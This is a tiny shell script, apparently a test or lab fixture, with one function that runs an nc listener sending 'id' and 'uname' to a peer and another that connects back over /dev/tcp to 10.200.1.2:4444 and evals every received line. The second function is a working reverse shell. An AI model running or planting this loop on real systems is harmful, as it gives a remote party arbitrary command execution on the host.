# bash reads a command by a descriptor of its own, and runs it with its output there.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { timeout 5 bash -c 'exec 3<>/dev/tcp/10.200.1.2/4444; while read -r l <&3; do eval "$l" >&3 2>&1; done'; }
